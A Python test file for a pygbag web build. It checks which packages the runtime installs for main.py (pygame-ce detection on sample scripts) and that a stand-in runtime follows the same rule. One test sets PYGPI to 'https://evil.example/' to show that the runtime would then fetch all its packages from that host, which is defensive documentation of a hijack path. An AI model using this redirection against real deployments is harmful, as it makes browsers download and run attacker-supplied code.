"""What pygbag's runtime installs for main.py, by its own code (tools/web_runtime_scan.py runs
``preload_code`` and what it calls from the pinned pygbag wheel, whose ``support`` files are
the runtime CDN's): pygame-ce only when main.py itself imports pygame or declares pygame-ce.
The stand-in runtime of the browser tests applies the same rule (stand_in/main.js); it is
checked here against the real functions on sample scripts."""

from __future__ import annotations

import functools
import json
import re
from pathlib import Path

import pytest
import pygbag_cdn
import web_build
import web_runtime_scan
from pygbag_cdn import STAND_IN, WHEEL

ROOT = Path(__file__).resolve().parents[2]

SAMPLES = {
    "import": ("import pygame\n", True),
    "import list, dotted, as": ("import os, pygame.display as screen\n", True),
    "from import": ("from pygame import display\n", True),
    "inside a function": ("import asyncio\nasync def main():\n    import pygame\nasyncio.run(main())\n", True),
    "PEP 723 pygame-ce": ('# /// script\n# dependencies = ["pygame-ce"]\n# ///\nimport asyncio\n', True),
    "PEP 723 over lines": ("# /// script\n# requires-python = '>=3.12'\n# dependencies = [\n#   'pygame-ce',\n# ]\n# ///\n", True),
    # the runtime finds its own empty pygame folder, so "pygame" in the block installs nothing
    "PEP 723 pygame": ('# /// script\n# dependencies = ["pygame"]\n# ///\nimport asyncio\n', False),
    # imports in other modules are never seen
    "only through the game": ("import asyncio\nfrom game.ui.app import App\n", False),
    "in strings and comments": ('"""\nimport pygame\n"""\n# import pygame\nx = "import pygame"\n', False),
    "mapped name": ("import pygame_ce\n", True),
    "nothing": ("print('hello')\n", False),
}


def real_files() -> dict:
    """The real index, wheels and main.js when ../shared has them; else the scan's defaults."""
    if pygbag_cdn.missing_reason():
        return {}
    return {"index": json.loads((pygbag_cdn.VENDOR / "index-0.9.3-cp312.json").read_text(encoding="utf-8")),
            "wheels": pygbag_cdn.VENDOR / "cp312", "main_js": pygbag_cdn.VENDOR / "0.9.3" / "cpython312" / "main.js"}


def scan(*texts, **options) -> list[dict]:
    return web_runtime_scan.installs(list(texts), **{**real_files(), **options})


@functools.cache
def installed(text: str) -> list[str]:
    """What the runtime installs for ``text`` alone (one scan, a child process, for each text
    in the worker: the samples' test and the stand-in's ask for the same ones)."""
    return list(scan(text)[0]["installed"])


def without_pygame(text: str) -> str:
    text = re.sub(r"(?m)^# /// script\n(#.*\n)*?# ///\n", "", text)
    return re.sub(r"(?m)^import pygame.*\n", "", text)


def test_the_runtime_installs_pygame_ce_for_our_main_py(can_build, src):
    main = (src / "main.py").read_text(encoding="utf-8")
    (result,) = scan(main)
    assert result["installed"] == ["pygame"]
    assert result["wheels"] == [WHEEL.rsplit("/", 1)[1]]
    assert WHEEL + "#" in result["fetched"]  # the address the runtime downloads it from
    # each of the two declarations is enough on its own; without both, nothing is installed
    assert scan(re.sub(r"(?m)^import pygame.*\n", "", main))[0]["installed"] == ["pygame"]
    assert scan(re.sub(r"(?m)^# /// script\n(#.*\n)*?# ///\n", "", main))[0]["installed"] == ["pygame"]
    assert scan(without_pygame(main))[0]["installed"] == []


def test_our_loader_installs_nothing_itself(can_build):
    loader = web_build.loader_of((ROOT / "build" / "template.tmpl").read_text(encoding="utf-8"))
    loader_result, main_result = scan(loader, without_pygame((ROOT / "main.py").read_text(encoding="utf-8")))
    assert loader_result["installed"] == [] and main_result["installed"] == []


def test_a_pygpi_parameter_would_install_from_anywhere(can_build, src):
    """Why the page passes the runtime no parameter of its own (test_web_runtime.py): a URL's
    PYGPI=... becomes this environment variable."""
    (result,) = scan((src / "main.py").read_text(encoding="utf-8"), env={"PYGPI": "https://evil.example/"})
    assert result["fetched"][0] == "https://evil.example/index-0.9.3-cp312.json"
    assert all(url.startswith("https://evil.example/") for url in result["fetched"])


@pytest.mark.parametrize("name", list(SAMPLES))
def test_the_runtimes_rule_on_samples(can_build, name):
    text, installs_pygame = SAMPLES[name]
    assert ("pygame" in installed(text)) is installs_pygame


def test_the_stand_in_runtime_applies_the_same_rule(browser, can_build):
    index = real_files().get("index") or web_runtime_scan.DEFAULT_INDEX
    page = browser.new_page()
    try:
        page.set_content("<!DOCTYPE html><html><body></body></html>")
        page.add_script_tag(path=str(STAND_IN))
        for name, (text, _) in SAMPLES.items():
            stand_in = page.evaluate("([code, index]) => standInInstalls(code, index)", [text, index])
            assert stand_in == installed(text), name
    finally:
        page.close()


def test_the_scans_defaults_are_the_runtimes(real_cdn):
    index = json.loads((real_cdn / "index-0.9.3-cp312.json").read_text(encoding="utf-8"))
    assert {key: index[key] for key in web_runtime_scan.DEFAULT_INDEX} == web_runtime_scan.DEFAULT_INDEX
    shipped = web_runtime_scan.site_packages_of(real_cdn / "0.9.3" / "cpython312" / "main.js")
    assert sorted(p for p in shipped if p.startswith("pygame/")) == sorted(web_runtime_scan.DEFAULT_SITE_PACKAGES)
    # the wheel's support files are the CDN's, byte for byte
    support = web_runtime_scan.pygbag_support()
    assert (support / "cpythonrc.py").read_bytes() == (real_cdn / "0.9.3" / "cpythonrc.py").read_bytes()
